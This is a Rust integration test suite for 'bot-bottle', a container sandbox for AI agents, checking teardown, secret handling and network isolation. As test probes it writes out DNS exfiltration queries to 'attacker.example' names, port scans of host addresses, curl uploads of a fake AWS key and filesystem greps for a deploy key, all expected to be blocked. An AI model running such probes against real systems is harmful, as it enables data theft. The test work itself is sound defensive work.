//! Launching real bottles on the real engine: the pipeline by hand, `start --headless`,
//! teardown after a signal at every stage boundary and after a failed stage, secrets, and the
//! agent's isolation. Every test removes what it made, also when it fails (DockerCleanup).

use std::io::Read;
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::time::Duration;

use bb_testkit::{
    DockerCleanup, Fixture, HTTP_UPSTREAM_SCRIPT, bin_path, docker_ok, require_images,
    simple_bottle, text, unique_name,
};
use serde_json::Value;

/// A bottle named after the test, with an upstream route and a repo behind the gate.
struct Bottle {
    f: Fixture,
    name: String,
    env: Vec<(String, String)>,
    cleanup: DockerCleanup,
}

const BOTTLE: &str = r#"env:
  GREETING: hello from the bottle
git-gate:
  user: {name: Test Bot, email: bot@example.org}
  repos:
    shop:
      url: git@git.example.org:team/shop.git
      key: {provider: static, path: ~/.ssh/deploy}
      host_key: ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAITestKey
egress:
  routes:
    - host: allowed.test
      private: true
"#;

impl Bottle {
    fn new(prefix: &str, front: &str) -> Bottle {
        require_images();
        let f = Fixture::new();
        let name = unique_name(prefix);
        let cleanup = DockerCleanup::new(&name);
        f.write("user/.ssh/deploy", "not a key\n");
        let env = simple_bottle(&f, &name, front);
        Bottle {
            f,
            name,
            env,
            cleanup,
        }
    }

    fn start(&self, prompt: &str, extra_env: &[(&str, &str)]) -> Output {
        self.f
            .cmd("bot-bottle")
            .args([
                "start",
                &self.name,
                "--headless",
                "--prompt",
                prompt,
                "--runtime",
                "runc",
            ])
            .envs(self.env.iter().map(|(k, v)| (k.as_str(), v.as_str())))
            .envs(extra_env.iter().copied())
            .timeout(Duration::from_secs(240))
            .output()
            .unwrap()
    }

    fn assert_nothing_left(&self) {
        assert!(
            self.cleanup.containers().is_empty(),
            "containers left: {:?}",
            self.cleanup.containers()
        );
        assert!(
            self.cleanup.networks().is_empty(),
            "networks left: {:?}",
            self.cleanup.networks()
        );
    }

    fn state_dirs(&self) -> Vec<PathBuf> {
        std::fs::read_dir(self.f.home().join("state"))
            .map(|d| d.flatten().map(|e| e.path()).collect())
            .unwrap_or_default()
    }

    /// `bb-plan | bb-net | bb-ca | bb-compose up | bb-provision` in a shell, as a user types it.
    fn pipeline(&self, extra_env: &[(&str, &str)]) -> Value {
        let bins = bin_path("bb-plan").parent().unwrap().to_path_buf();
        let path = format!("{}:{}", bins.display(), std::env::var("PATH").unwrap());
        let line = format!(
            "bb-plan {} --runtime runc | bb-net | bb-ca | bb-compose up | bb-provision",
            self.name
        );
        let out = self
            .f
            .shell(&line)
            .env("PATH", path)
            .envs(self.env.iter().map(|(k, v)| (k.as_str(), v.as_str())))
            .envs(extra_env.iter().copied())
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "pipeline failed: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        serde_json::from_slice(&out.stdout).unwrap()
    }

    /// The inverse stages (`bb-compose down`, `bb-net rm`) succeed and leave nothing behind.
    fn take_down(&self, plan: &Value) {
        for stage in [&["bb-compose", "down", "--home"][..], &["bb-net", "rm"][..]] {
            let out = self.stage(plan, stage);
            assert!(out.status.success(), "{stage:?}: {}", text(&out).1);
        }
        self.assert_nothing_left();
        assert!(
            self.cleanup.volumes().is_empty(),
            "`bb-compose down --home` left {:?}",
            self.cleanup.volumes()
        );
    }

    fn stage(&self, plan: &Value, args: &[&str]) -> Output {
        self.f
            .cmd(args[0])
            .args(&args[1..])
            .write_stdin(plan.to_string())
            .output()
            .unwrap()
    }
}

/// A string field of the plan, owned.
fn string(value: &Value) -> String {
    value.as_str().expect("a string in the plan").to_string()
}

fn exec(container: &str, user: &str, script: &str) -> Output {
    bb_testkit::docker_exec(container, user, script)
}

/// The address of a container on its (single) network.
fn container_ip(name: &str) -> String {
    docker_ok(&[
        "inspect",
        "-f",
        "{{range .NetworkSettings.Networks}}{{.IPAddress}}{{end}}",
        name,
    ])
}

#[test]
fn start_headless_runs_the_agent_and_tears_everything_down() {
    let b = Bottle::new("hl", BOTTLE);
    let out = b.start(
        "run: echo \"greeting=$GREETING\"; stat -c 'prompt %a %U' ~/.bot-bottle-prompt.txt; cat ~/.bot-bottle-prompt.txt; git config --get-regexp '^url' ; exit 7",
        &[],
    );
    let (stdout, stderr) = text(&out);
    assert_eq!(out.status.code(), Some(7), "the agent's status: {stderr}");
    assert!(
        stdout.contains("greeting=hello from the bottle"),
        "{stdout}"
    );
    assert!(stdout.contains("prompt 600 node"), "{stdout}");
    assert!(stdout.contains("You are a test agent."), "{stdout}");
    assert!(
        stdout.contains("url.git://git-gate/shop.git.insteadof git@git.example.org:team/shop.git"),
        "{stdout}"
    );
    assert!(stderr.contains("CA SHA-256"), "{stderr}");
    b.assert_nothing_left();
    let kept = b.state_dirs();
    assert_eq!(kept.len(), 1, "a non-zero exit keeps the state");
    assert!(
        kept[0].join("compose.log").is_file(),
        "logs dumped at teardown"
    );

    let out = b.start("run: true", &[]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out).1);
    b.assert_nothing_left();
    assert_eq!(b.state_dirs().len(), 1, "a clean exit removes its state");
}

#[test]
fn a_signal_at_every_stage_boundary_tears_down() {
    let b = Bottle::new("sig", BOTTLE);
    for stage in ["net", "ca", "compose", "provision"] {
        let out = b.start("run: true", &[("BB_DEBUG_SIGNAL_AFTER", stage)]);
        let (_, stderr) = text(&out);
        assert_eq!(out.status.code(), Some(130), "{stage}: {stderr}");
        assert!(
            stderr.contains("interrupted by signal 2; torn down"),
            "{stage}: {stderr}"
        );
        assert!(!stderr.contains("teardown failed"), "{stage}: {stderr}");
        b.assert_nothing_left();
    }
    assert_eq!(
        b.state_dirs().len(),
        4,
        "interrupted launches keep their state"
    );
}

#[test]
fn a_failed_stage_tears_down_what_was_made() {
    let b = Bottle::new("fail", BOTTLE);
    // The base image has no `node` user, so provisioning fails after compose is up.
    let out = b.start(
        "run: true",
        &[("BOT_BOTTLE_IMAGE", "bot-bottle-base:local")],
    );
    let (_, stderr) = text(&out);
    assert_eq!(out.status.code(), Some(1), "{stderr}");
    assert!(stderr.contains("bot-bottle: error:"), "{stderr}");
    b.assert_nothing_left();
}

#[test]
fn pipeline_by_hand_isolates_the_agent() {
    let b = Bottle::new("pipe", BOTTLE);
    let plan = b.pipeline(&[]);
    let agent = string(&plan["compose"]["agent_container"]);
    let net = plan["network"].clone();
    let slug = &b.name;

    // The CA is in the system store: curl trusts a server whose certificate the bottle CA signed.
    let ca_dir = Path::new(plan["ca"]["cert"].as_str().unwrap())
        .parent()
        .unwrap()
        .display()
        .to_string();
    docker_ok(&[
        "run",
        "-d",
        "--name",
        &format!("bot-bottle-{slug}-tls"),
        "--network",
        net["internal"].as_str().unwrap(),
        "--network-alias",
        "tls-check",
        "-v",
        &format!("{ca_dir}:/ca:ro"),
        "bot-bottle-base:local",
        "sh",
        "-c",
        "openssl req -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout /tmp/k -subj /CN=tls-check \
         -addext subjectAltName=DNS:tls-check -out /tmp/csr 2>/dev/null && openssl x509 -req -in /tmp/csr -CA /ca/ca.pem \
         -CAkey /ca/ca-key.pem -CAcreateserial -CAserial /tmp/serial -days 1 -copy_extensions copy -out /tmp/c 2>/dev/null \
         && exec openssl s_server -quiet -accept 8443 -cert /tmp/c -key /tmp/k -www",
    ]);
    let trusted = exec(
        &agent,
        "node",
        "for i in $(seq 50); do nc -z tls-check 8443 && break; sleep 0.2; done; curl -sS --noproxy '*' -o /dev/null -w '%{http_code}' https://tls-check:8443/",
    );
    assert_eq!(
        text(&trusted).0,
        "200",
        "curl trusts the bottle CA: {}",
        text(&trusted).1
    );

    // Prompt file and git config.
    let stat = exec(
        &agent,
        "node",
        "stat -c '%a %U' /home/node/.bot-bottle-prompt.txt",
    );
    assert_eq!(text(&stat).0.trim(), "600 node");
    let git = exec(&agent, "node", "git config --get-regexp '^url'");
    assert!(
        text(&git)
            .0
            .contains("url.git://git-gate/shop.git.insteadof"),
        "{}",
        text(&git).0
    );

    // An upstream on the egress network, reachable only through the proxy.
    docker_ok(&[
        "run",
        "-d",
        "--name",
        &format!("bot-bottle-{slug}-upstream"),
        "--network",
        net["egress"].as_str().unwrap(),
        "--network-alias",
        "allowed.test",
        "--network-alias",
        "forbidden.test",
        "bot-bottle-base:local",
        "sh",
        "-c",
        HTTP_UPSTREAM_SCRIPT,
    ]);
    let allowed = exec(
        &agent,
        "node",
        "for i in $(seq 30); do curl -fsS -m 5 http://allowed.test:8080/ && exit 0; sleep 0.2; done; exit 1",
    );
    assert_eq!(
        text(&allowed).0,
        "upstream",
        "allowed through the proxy: {}",
        text(&allowed).1
    );
    let refused = exec(
        &agent,
        "node",
        "curl -sS -m 5 -w ' %{http_code}' http://forbidden.test:8080/",
    );
    let (body, _) = text(&refused);
    assert!(
        body.starts_with("blocked:") && body.ends_with(" 403"),
        "{body}"
    );
    let upstream_ip = container_ip(&format!("bot-bottle-{slug}-upstream"));
    let direct = exec(
        &agent,
        "node",
        &format!("curl -sS --noproxy '*' -m 3 http://{upstream_ip}:8080/"),
    );
    assert!(
        !direct.status.success(),
        "no direct route to the egress network"
    );

    // A host listener on 0.0.0.0 is unreachable through every address the agent can name.
    let listener = TcpListener::bind("0.0.0.0:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let mut targets = vec![
        net["internal_subnet"]
            .as_str()
            .unwrap()
            .replace(".0/24", ".1"),
        docker_ok(&[
            "network",
            "inspect",
            "-f",
            "{{range .IPAM.Config}}{{.Gateway}}{{end}}",
            net["egress"].as_str().unwrap(),
        ]),
        docker_ok(&[
            "network",
            "inspect",
            "-f",
            "{{range .IPAM.Config}}{{.Gateway}}{{end}}",
            "bridge",
        ]),
    ];
    let host_ips = Command::new("hostname").arg("-I").output().unwrap();
    targets.extend(
        String::from_utf8_lossy(&host_ips.stdout)
            .split_whitespace()
            .filter(|a| !a.contains(':'))
            .map(str::to_string),
    );
    for target in &targets {
        let probe = exec(&agent, "node", &format!("nc -z -w 2 {target} {port}"));
        assert!(
            !probe.status.success(),
            "the host listener answered on {target}"
        );
    }
    let mut accepted = 0;
    while let Ok((mut stream, _)) = listener.accept() {
        let mut buf = [0u8; 1];
        let _ = stream.read(&mut buf);
        accepted += 1;
    }
    assert_eq!(accepted, 0, "the host listener saw a connection");

    // DNS for outside names ends at the sidecar's sink, which refuses it.
    let dig = exec(
        &agent,
        "node",
        "dig +time=2 +tries=1 leak-check.attacker.example",
    );
    assert!(text(&dig).0.contains("status: REFUSED"), "{}", text(&dig).0);

    // bb-exec runs the agent command as node and exits with its status.
    let run = b.stage(
        &plan,
        &[
            "bb-exec",
            "--headless",
            "--prompt",
            "run:id -un; pwd; exit 4",
        ],
    );
    assert_eq!(run.status.code(), Some(4), "{}", text(&run).1);
    assert!(
        text(&run).0.contains("node\n/home/node\n"),
        "{}",
        text(&run).0
    );

    // The inverse stages remove everything.
    docker_ok(&[
        "rm",
        "-f",
        &format!("bot-bottle-{slug}-tls"),
        &format!("bot-bottle-{slug}-upstream"),
    ]);
    b.take_down(&plan);
}

const SECRETS_BOTTLE: &str = r#"env:
  FROM_HOST: "${BB_TEST_HOST_SECRET}"
  ASKED: "?Test question"
egress:
  routes:
    - host: allowed.test
      private: true
      auth: {scheme: Bearer, token_ref: BB_TEST_ROUTE_TOKEN}
"#;

/// Routes whose tokens a file and a command hold (`{work}`: where they are, outside the
/// bot-bottle home the test scans).
const TOKEN_SOURCE_ROUTES: &str = r#"    - host: files.test
      private: true
      auth: {scheme: Bearer, token_file: "{work}/token.txt"}
    - host: command.test
      private: true
      auth: {scheme: Bearer, token_command: ["{work}/vault", read, "op://bottle/api/token"], token_timeout: 20}
"#;

const HOST_SECRET: &str = "planted-host-Kx81Qm3zTa";
const FILE_SECRET: &str = "planted-file-Qz62Hd8wLp";
const COMMAND_SECRET: &str = "planted-command-Mv47Tj1cRs";
const ASKED_SECRET: &str = "planted-asked-Wp27Lr9vNe";
const ROUTE_SECRET: &str = "planted-route-Gh54Ys6uBc";

#[test]
fn secrets_reach_the_agent_and_sidecar_environment_and_nothing_else() {
    let work = tempfile::tempdir().unwrap();
    std::fs::write(work.path().join("token.txt"), format!("{FILE_SECRET}\n")).unwrap();
    let vault = work.path().join("vault");
    std::fs::write(
        &vault,
        format!(
            "#!/bin/sh\n[ \"$2\" = op://bottle/api/token ] && printf '%s\\n' {COMMAND_SECRET}\n"
        ),
    )
    .unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&vault, std::fs::Permissions::from_mode(0o755)).unwrap();
    let routes = TOKEN_SOURCE_ROUTES.replace("{work}", &work.path().display().to_string());
    let b = Bottle::new("sec", &format!("{SECRETS_BOTTLE}{routes}"));
    let bins = bin_path("bb-plan").parent().unwrap().to_path_buf();
    let plan_file = work.path().join("plan.json");
    let log_file = work.path().join("stderr.log");
    // `?` values are asked on the terminal: run the pipeline under a pseudo-terminal (script)
    // and type the answer, as an operator would.
    let line = format!(
        "bb-plan {} --runtime runc | bb-net | bb-ca | bb-compose up > {} 2> {}",
        b.name,
        plan_file.display(),
        log_file.display()
    );
    let mut child =
        b.f.shell(&format!("script -qec {} /dev/null", shell_quote(&line)))
            .env(
                "PATH",
                format!("{}:{}", bins.display(), std::env::var("PATH").unwrap()),
            )
            .envs(b.env.iter().map(|(k, v)| (k.as_str(), v.as_str())))
            .env("BB_TEST_HOST_SECRET", HOST_SECRET)
            .env("BB_TEST_ROUTE_TOKEN", ROUTE_SECRET)
            .stdin(std::process::Stdio::piped())
            .stdout(std::process::Stdio::null())
            .spawn()
            .unwrap();
    use std::io::Write;
    child
        .stdin
        .take()
        .unwrap()
        .write_all(format!("{ASKED_SECRET}\n").as_bytes())
        .unwrap();
    assert!(
        child.wait().unwrap().success(),
        "{}",
        std::fs::read_to_string(&log_file).unwrap_or_default()
    );
    let plan: Value = serde_json::from_str(&std::fs::read_to_string(&plan_file).unwrap()).unwrap();
    let agent = string(&plan["compose"]["agent_container"]);
    let sidecar = string(&plan["compose"]["sidecar_container"]);

    let env = text(&exec(&agent, "node", "env")).0;
    assert!(
        env.contains(&format!("FROM_HOST={HOST_SECRET}")),
        "host value reached the agent"
    );
    assert!(
        env.contains(&format!("ASKED={ASKED_SECRET}")),
        "asked value reached the agent"
    );
    assert!(
        !env.contains(ROUTE_SECRET),
        "the route token never enters the agent"
    );
    let token = |slot: &str| text(&exec(&sidecar, "root", &format!("printenv {slot}"))).0;
    assert_eq!(
        token("EGRESS_TOKEN_1").trim(),
        ROUTE_SECRET,
        "the route token reached the sidecar"
    );
    assert_eq!(
        token("EGRESS_TOKEN_2"),
        format!("{FILE_SECRET}\n"),
        "the file's token, without its line break, reached the sidecar"
    );
    assert_eq!(
        token("EGRESS_TOKEN_3"),
        format!("{COMMAND_SECRET}\n"),
        "the command's token, without its line break, reached the sidecar"
    );
    assert!(!env.contains(FILE_SECRET) && !env.contains(COMMAND_SECRET));

    let logs = b.stage(&plan, &["bb-compose", "logs"]);
    assert!(logs.status.success());
    let mut haystacks = vec![
        ("plan".to_string(), plan.to_string()),
        (
            "stderr".to_string(),
            std::fs::read_to_string(&log_file).unwrap(),
        ),
    ];
    for file in bb_testkit::walk(&b.f.home()) {
        if file.is_file() {
            haystacks.push((
                file.display().to_string(),
                String::from_utf8_lossy(&std::fs::read(&file).unwrap()).into_owned(),
            ));
        }
    }
    for container in [&agent, &sidecar] {
        let command_line = docker_ok(&[
            "inspect",
            "-f",
            "{{json .Path}} {{json .Args}} {{json .Config.Cmd}} {{json .Config.Entrypoint}}",
            container,
        ]);
        haystacks.push((format!("command line of {container}"), command_line));
    }
    assert!(
        haystacks
            .iter()
            .any(|(name, _)| name.ends_with("docker-compose.yml"))
    );
    assert!(
        haystacks
            .iter()
            .any(|(name, _)| name.ends_with("compose.log"))
    );
    for (name, text) in &haystacks {
        for secret in [
            HOST_SECRET,
            ASKED_SECRET,
            ROUTE_SECRET,
            FILE_SECRET,
            COMMAND_SECRET,
        ] {
            assert!(!text.contains(secret), "a planted value is in {name}");
        }
    }
    b.take_down(&plan);
}

fn shell_quote(s: &str) -> String {
    format!("'{}'", s.replace('\'', r"'\''"))
}

#[test]
fn sigterm_while_the_agent_runs_tears_down() {
    use std::io::BufRead;
    let b = Bottle::new("term", BOTTLE);
    let mut child =
        b.f.shell(&format!(
            "exec bot-bottle start {} --headless --prompt 'run:sleep 120' --runtime runc",
            b.name
        ))
        .env(
            "PATH",
            format!(
                "{}:{}",
                bin_path("bot-bottle").parent().unwrap().display(),
                std::env::var("PATH").unwrap()
            ),
        )
        .envs(b.env.iter().map(|(k, v)| (k.as_str(), v.as_str())))
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let stderr = std::io::BufReader::new(child.stderr.take().unwrap());
    let mut lines = stderr.lines();
    for line in lines.by_ref() {
        if line.unwrap().contains("starting the agent") {
            break;
        }
    }
    std::thread::sleep(Duration::from_millis(500));
    let kill = Command::new("kill")
        .args(["-TERM", &child.id().to_string()])
        .status()
        .unwrap();
    assert!(kill.success());
    let rest: Vec<String> = lines.map(|l| l.unwrap()).collect();
    let status = child.wait().unwrap();
    assert_eq!(status.code(), Some(143), "{rest:?}");
    assert!(
        rest.iter()
            .any(|l| l.contains("interrupted by signal 15; torn down")),
        "{rest:?}"
    );
    b.assert_nothing_left();
}

#[test]
fn dns_queries_for_outside_names_reach_only_the_sink() {
    let b = Bottle::new("dns", BOTTLE);
    let plan = b.pipeline(&[]);
    let agent = string(&plan["compose"]["agent_container"]);
    let sidecar = string(&plan["compose"]["sidecar_container"]);
    let sidecar_ip = plan["network"]["sidecar_ip"].as_str().unwrap().to_string();
    let resolver = format!("bot-bottle-{}-resolver", b.name);
    // A fake resolver on the egress network records every packet it receives, UDP and TCP.
    docker_ok(&[
        "run",
        "-d",
        "--name",
        &resolver,
        "--network",
        plan["network"]["egress"].as_str().unwrap(),
        "bot-bottle-base:local",
        "sh",
        "-c",
        "touch /tmp/udp /tmp/tcp; (nc -k -u -l 53 >>/tmp/udp &); exec nc -k -l 53 >>/tmp/tcp",
    ]);
    let resolver_ip = container_ip(&resolver);
    let ask = |args: &str| {
        text(&exec(
            &agent,
            "node",
            &format!("dig +time=2 +tries=1 {args}"),
        ))
        .0
    };
    assert!(ask("leak-default.attacker.example").contains("status: REFUSED"));
    assert!(ask("+tcp leak-tcp.attacker.example").contains("status: REFUSED"));
    assert!(ask(&format!("@{sidecar_ip} leak-sink.attacker.example")).contains("status: REFUSED"));
    assert!(ask("@127.0.0.11 leak-embedded.attacker.example").contains("status: REFUSED"));
    let direct = ask(&format!("@{resolver_ip} leak-direct.attacker.example"));
    assert!(direct.contains("no servers could be reached"), "{direct}");
    let direct_tcp = ask(&format!(
        "+tcp @{resolver_ip} leak-direct-tcp.attacker.example"
    ));
    assert!(!direct_tcp.contains("status:"), "{direct_tcp}");

    let received = text(&exec(&resolver, "root", "cat /tmp/udp /tmp/tcp | wc -c")).0;
    assert_eq!(
        received.trim(),
        "0",
        "the fake resolver on the egress network received a query"
    );
    let logs = Command::new("docker")
        .args(["logs", &sidecar])
        .output()
        .unwrap();
    let logs = String::from_utf8_lossy(&logs.stdout);
    for name in ["leak-default", "leak-tcp", "leak-sink", "leak-embedded"] {
        let line = logs
            .lines()
            .find(|l| l.contains(&format!("{name}.attacker.example")))
            .unwrap_or_else(|| panic!("the sink logged no query for {name}: {logs}"));
        let decision: Value = serde_json::from_str(line).unwrap();
        assert_eq!(decision["service"], "dns");
        assert_eq!(decision["verdict"], "block");
    }
    assert!(
        !logs.contains("leak-direct"),
        "the direct query never reached the sidecar either"
    );
    // Control: the fake resolver does record a query that can reach it.
    let _ = Command::new("docker")
        .args([
            "run",
            "--rm",
            "--network",
            plan["network"]["egress"].as_str().unwrap(),
            "bot-bottle-base:local",
        ])
        .args([
            "dig",
            "+time=1",
            "+tries=1",
            &format!("@{resolver_ip}"),
            "control.example",
        ])
        .output();
    let received = text(&exec(&resolver, "root", "cat /tmp/udp | wc -c")).0;
    assert_ne!(
        received.trim(),
        "0",
        "the fake resolver records what reaches it"
    );
    docker_ok(&["rm", "-f", "-v", &resolver]);
    b.take_down(&plan);
}

#[test]
fn the_git_gate_serves_clean_pushes_and_rejects_secrets_end_to_end() {
    require_images();
    let f = Fixture::new();
    let name = unique_name("gate");
    let cleanup = DockerCleanup::new(&name);
    let upstream = format!("bot-bottle-{name}-upstream");
    let upstream_net = format!("bot-bottle-{name}-upstreamnet");
    let key = f.path("user/.ssh/deploy");
    let host_key = bb_testkit::start_git_upstream(&f, &upstream, &upstream_net, &key);
    let env = simple_bottle(
        &f,
        &name,
        &format!(
            "git-gate:\n  user: {{name: Gate Bot, email: gate@example.org}}\n  repos:\n    shop:\n      url: ssh://git@upstream.test:2222/srv/git/shop.git\n      key: {{provider: command, command: [cat, \"{}\"]}}\n      host_key: \"{host_key}\"\n",
            key.display()
        ),
    );
    let b = Bottle {
        f,
        name,
        env,
        cleanup,
    };
    let plan = b.pipeline(&[]);
    docker_ok(&[
        "network",
        "connect",
        "--alias",
        "upstream.test",
        plan["network"]["egress"].as_str().unwrap(),
        &upstream,
    ]);
    let agent = string(&plan["compose"]["agent_container"]);
    let upstream_log = || {
        text(&exec(
            &upstream,
            "git",
            "git -C /srv/git/shop.git log --all --format=%s",
        ))
        .0
    };

    let clone = exec(
        &agent,
        "node",
        "cd ~ && git clone -q ssh://git@upstream.test:2222/srv/git/shop.git shop && cat shop/README",
    );
    assert_eq!(
        text(&clone).0,
        "hello\n",
        "clone through the gate: {}",
        text(&clone).1
    );

    let clean = exec(
        &agent,
        "node",
        "cd ~/shop && echo ok > notes.txt && git add notes.txt && git commit -q -m clean-change && git push -q origin main",
    );
    assert!(
        clean.status.success(),
        "a clean push lands: {}",
        text(&clean).1
    );
    assert!(
        upstream_log().contains("clean-change"),
        "upstream received the clean commit"
    );

    let dirty = exec(
        &agent,
        "node",
        "cd ~/shop && echo 'aws_key = AKIAQ7XBV2MNR4TWZ5YD' > creds.txt && git add creds.txt && git commit -q -m leak && git push origin main",
    );
    let (_, stderr) = text(&dirty);
    assert!(!dirty.status.success(), "a push with a secret is rejected");
    assert!(
        stderr.contains("creds.txt:1") && stderr.contains("aws-access-key-id"),
        "{stderr}"
    );
    assert!(
        !stderr.contains("AKIAQ7XBV2MNR4TWZ5YD"),
        "the secret is redacted: {stderr}"
    );
    assert!(
        !upstream_log().contains("leak"),
        "upstream received nothing"
    );

    let private_key = std::fs::read_to_string(&key).unwrap();
    let marker = private_key.lines().nth(1).unwrap();
    let search = exec(
        &agent,
        "root",
        &format!("grep -rlF '{marker}' / --exclude-dir=proc --exclude-dir=sys 2>/dev/null; true"),
    );
    assert_eq!(
        text(&search).0,
        "",
        "the deploy key is nowhere in the agent"
    );
    // The key came from a command: it is in no file of the bot-bottle home, no container's
    // command line or mount, only the sidecar's environment (its ssh-agent holds it).
    let home_files =
        b.f.shell(&format!(
            "grep -rlF '{marker}' {} 2>/dev/null; true",
            b.f.home().display()
        ))
        .output()
        .unwrap();
    assert_eq!(text(&home_files).0, "", "the key in a file of the home");
    let sidecar = string(&plan["compose"]["sidecar_container"]);
    for container in [&agent, &sidecar] {
        let inspect = docker_ok(&[
            "inspect",
            "-f",
            "{{json .Args}} {{json .Config.Cmd}} {{json .Mounts}} {{json .Config.Labels}}",
            container,
        ]);
        assert!(
            !inspect.contains(marker),
            "the key in {container}'s inspect"
        );
    }
    let gate_files = exec(
        &sidecar,
        "root",
        &format!("grep -rlF '{marker}' /var/lib/bot-bottle /tmp /etc/bot-bottle 2>/dev/null; true"),
    );
    assert_eq!(text(&gate_files).0, "", "the key in a file of the sidecar");

    docker_ok(&["rm", "-f", "-v", &upstream]);
    docker_ok(&["network", "rm", &upstream_net]);
    b.take_down(&plan);
}

const API_TOKEN: &str = "planted-api-token-Rt83xQ2vWm";

#[test]
fn the_proxy_intercepts_injects_passes_through_blocks_and_reloads_in_the_container() {
    let b = Bottle::new(
        "egress",
        "egress:\n  routes:\n    - host: api.test\n      private: true\n      auth: {scheme: Bearer, token_ref: BB_TEST_API_TOKEN}\n    - host: pass.test\n      private: true\n      tls_passthrough: true\n",
    );
    let certs = tempfile::tempdir().unwrap();
    let ca = bb_testkit::test_certs(certs.path(), &["api.test", "pass.test", "new.test"]);
    let bins = bin_path("bb-plan").parent().unwrap().to_path_buf();
    let path = format!("{}:{}", bins.display(), std::env::var("PATH").unwrap());
    let run = |line: &str, extra: &[(&str, &str)]| {
        let out =
            b.f.shell(line)
                .env("PATH", &path)
                .envs(b.env.iter().map(|(k, v)| (k.as_str(), v.as_str())))
                .envs(extra.iter().copied())
                .output()
                .unwrap();
        assert!(
            out.status.success(),
            "{line}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        out.stdout
    };
    let first: Value = serde_json::from_slice(&run(
        &format!("bb-plan {} --runtime runc | bb-net", b.name),
        &[("BB_TEST_API_TOKEN", API_TOKEN)],
    ))
    .unwrap();
    let fixture = format!("bot-bottle-{}-fixture", b.name);
    docker_ok(&[
        "run",
        "-d",
        "--name",
        &fixture,
        "--network",
        first["network"]["egress"].as_str().unwrap(),
        "-e",
        "FIXTURE_TLS_CERT=/certs/leaf.pem",
        "-e",
        "FIXTURE_TLS_KEY=/certs/leaf.key",
        "-v",
        &format!("{}:/certs:ro", certs.path().display()),
        "bot-bottle-fixture:latest",
    ]);
    let fixture_ip = container_ip(&fixture);
    let plan_file = b.f.path("plan1.json");
    std::fs::write(&plan_file, first.to_string()).unwrap();
    let plan: Value = serde_json::from_slice(&run(
        &format!(
            "bb-ca --plan {} | bb-compose up | bb-provision",
            plan_file.display()
        ),
        &[
            ("BOT_BOTTLE_EXTRA_ROOTS", ca.to_str().unwrap()),
            ("BOT_BOTTLE_SIDECAR_RESOLVE_OVERRIDE", &fixture_ip),
            ("BB_TEST_API_TOKEN", API_TOKEN),
        ],
    ))
    .unwrap();
    let agent = string(&plan["compose"]["agent_container"]);
    let sidecar = string(&plan["compose"]["sidecar_container"]);
    let requests = || {
        text(&exec(
            &fixture,
            "root",
            "cat /tmp/requests.jsonl 2>/dev/null",
        ))
        .0
    };

    // Interception and injection: the agent's own credential is replaced by the route's.
    let got = exec(
        &agent,
        "node",
        "for i in $(seq 50); do curl -fsS -m 5 -H 'Authorization: Bearer agent-made-this-up' https://api.test/whoami && exit 0; sleep 0.2; done; exit 1",
    );
    assert_eq!(
        text(&got).0,
        "ok",
        "intercepted request answered: {}",
        text(&got).1
    );
    let seen: Vec<Value> = requests()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let whoami = seen
        .iter()
        .find(|r| r["path"] == "/whoami")
        .expect("the fixture saw the request");
    assert_eq!(
        whoami["authorization"],
        format!("Bearer {API_TOKEN}"),
        "the upstream sees the real token"
    );
    assert!(
        !text(&exec(
            &agent,
            "node",
            "env; cat ~/.bot-bottle-prompt.txt ~/.gitconfig"
        ))
        .0
        .contains(API_TOKEN),
        "the agent never had it"
    );

    // Passthrough: the agent sees the upstream's own certificate, not one from the bottle CA.
    docker_ok(&[
        "cp",
        ca.to_str().unwrap(),
        &format!("{agent}:/tmp/test-ca.pem"),
    ]);
    let through = exec(
        &agent,
        "node",
        "curl -sS -m 5 --cacert /tmp/test-ca.pem https://pass.test/",
    );
    assert_eq!(text(&through).0, "ok", "passthrough: {}", text(&through).1);
    let issuer = |host: &str| {
        let out = exec(
            &agent,
            "node",
            &format!(
                "openssl s_client -proxy egress:9099 -connect {host}:443 -servername {host} </dev/null 2>/dev/null | openssl x509 -noout -issuer"
            ),
        );
        text(&out).0
    };
    assert!(
        issuer("pass.test").contains("bot-bottle test upstream CA"),
        "passthrough is not intercepted: {}",
        issuer("pass.test")
    );
    let bottle_ca = format!("bot-bottle {} CA", plan["identity"].as_str().unwrap());
    assert!(
        issuer("api.test").contains(&bottle_ca),
        "api.test is intercepted: {}",
        issuer("api.test")
    );

    // Blocks, each with its reason; the fixture never sees the request.
    let blocked = |cmd: &str| {
        let out = exec(
            &agent,
            "node",
            &format!("{cmd} -sS -m 5 -w ' %{{http_code}}'"),
        );
        text(&out).0
    };
    let dlp = blocked("curl --data-binary 'aws=AKIAQ7XBV2MNR4TWZ5YD' https://api.test/upload");
    assert!(
        dlp.starts_with("blocked:") && dlp.contains("token_patterns") && dlp.ends_with(" 403"),
        "{dlp}"
    );
    let token = blocked(&format!(
        "curl --data-binary 'x={API_TOKEN}' https://api.test/echo"
    ));
    assert!(
        token.starts_with("blocked:") && token.ends_with(" 403"),
        "the injected token is refused even on its own route: {token}"
    );
    let host = exec(&agent, "node", "curl -sS -m 5 https://new.test/");
    assert!(
        text(&host)
            .1
            .contains("CONNECT tunnel failed, response 403"),
        "a host without a route is refused at CONNECT: {}",
        text(&host).1
    );
    let spoof = blocked("curl -H 'Host: pass.test' https://api.test/spoof");
    assert!(
        spoof.starts_with("blocked:") && spoof.ends_with(" 403"),
        "Host must agree with the CONNECT target: {spoof}"
    );
    let log = requests();
    for path in ["/upload", "/echo", "/spoof"] {
        assert!(
            !log.contains(&format!("\"path\": \"{path}\"")),
            "{path} reached the upstream: {log}"
        );
    }

    // Reload: a route added to the routes file works after SIGHUP.
    let routes_file = Path::new(plan["state_dir"].as_str().unwrap()).join("egress/routes.json");
    let mut routes: Value =
        serde_json::from_str(&std::fs::read_to_string(&routes_file).unwrap()).unwrap();
    let mut new_route = routes["routes"][1].clone();
    new_route["host"] = "new.test".into();
    new_route["tls_passthrough"] = false.into();
    routes["routes"].as_array_mut().unwrap().push(new_route);
